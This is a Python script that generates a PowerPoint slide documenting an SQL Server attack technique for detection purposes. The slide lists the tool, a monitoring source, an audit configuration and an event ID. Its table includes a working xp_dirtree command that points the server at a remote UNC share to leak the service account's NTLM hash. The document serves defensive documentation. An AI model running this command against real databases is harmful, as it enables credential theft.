
import pptx
import pptx.util
import pptx.dml.color
import pptx.enum.text
import pptx.oxml
import pptx.oxml.ns

TITLE = "Documentation"
ROWS = [
    ("Category", "Privilege Escalation"),
    ("Tool", "sqsh"),
    ("Command", r"exec master.dbo.xp_dirtree '\\10.1.1.60\any\thing'"),
    ("Monitoring", "Database - Stored Procedure Execution - xp_dirtree"),
    ("Config Scope", "MASTER DATABASE AUDIT"),
    ("Config", "ADD (EXECUTE ON OBJECT::[dbo].[xp_dirtree] BY [dbo])"),
    ("Event ID", "EVID 33205 : SQL Audit Event - SI"),
    ("Attack Chain Comments",
     "The xp_dirtree Stored Procedure can be abused to leak the NTLM "
     "hash of the account running the SQL service"),
]
COLORS = {
    "background": "262335",
    "title": "FFFFFF",
    "text": "000000",
    "label": "BFBFBF",
    "value": "F2F2F2",
    "border": "FFFFFF",
}
FONT = "Arial Narrow"
COLUMN_WIDTHS = (4.37, 6.13)
COLUMN_STYLES = (("label", 32, True), ("value", 18, False))
ROW_HEIGHT, COMMENTS_HEIGHT = 0.59, 1.05

Inches = pptx.util.Inches


def color(name):
    return pptx.dml.color.RGBColor.from_string(COLORS[name])


def format_text(text_frame, size, bold, color_name):
    text_frame.word_wrap = True
    text_frame.vertical_anchor = pptx.enum.text.MSO_ANCHOR.MIDDLE
    paragraph = text_frame.paragraphs[0]
    paragraph.alignment = pptx.enum.text.PP_ALIGN.CENTER
    paragraph.font.name = FONT
    paragraph.font.size = pptx.util.Pt(size)
    paragraph.font.bold = bold
    paragraph.font.color.rgb = color(color_name)


def add_borders(cell):
    properties = cell._tc.get_or_add_tcPr()
    for position, side in enumerate(("lnL", "lnR", "lnT", "lnB")):
        border = pptx.oxml.parse_xml(
            f'<a:{side} {pptx.oxml.ns.nsdecls("a")} w="{pptx.util.Pt(1)}"><a:solidFill>'
            f'<a:srgbClr val="{COLORS["border"]}"/></a:solidFill></a:{side}>')
        properties.insert(position, border)


def add_title(slide):
    title = slide.shapes.title
    title.left, title.top = Inches(2), Inches(0.18)
    title.width, title.height = Inches(9.34), Inches(0.79)
    title.text_frame.text = TITLE
    format_text(title.text_frame, 54, False, "title")


def add_documentation_table(slide):
    heights = [ROW_HEIGHT] * (len(ROWS) - 1) + [COMMENTS_HEIGHT]
    table = slide.shapes.add_table(
        len(ROWS), len(COLUMN_WIDTHS), Inches(1.3), Inches(1.54),
        Inches(sum(COLUMN_WIDTHS)), Inches(sum(heights))).table
    table.first_row = table.horz_banding = False
    for column, width in zip(table.columns, COLUMN_WIDTHS):
        column.width = Inches(width)
    for row, height, texts in zip(table.rows, heights, ROWS):
        row.height = Inches(height)
        for cell, text, (fill, size, bold) in zip(row.cells, texts, COLUMN_STYLES):
            cell.text = text
            cell.margin_left = cell.margin_right = 0
            cell.margin_top = cell.margin_bottom = 0
            cell.vertical_anchor = pptx.enum.text.MSO_ANCHOR.MIDDLE
            cell.fill.solid()
            cell.fill.fore_color.rgb = color(fill)
            format_text(cell.text_frame, size, bold, "text")
            add_borders(cell)


def main():
    presentation = pptx.Presentation()
    presentation.slide_width = Inches(13.33)
    presentation.slide_height = Inches(7.5)
    slide = presentation.slides.add_slide(presentation.slide_layouts[5])
    slide.background.fill.solid()
    slide.background.fill.fore_color.rgb = color("background")
    add_title(slide)
    add_documentation_table(slide)
    presentation.save("out.pptx")


if __name__ == "__main__":
    main()
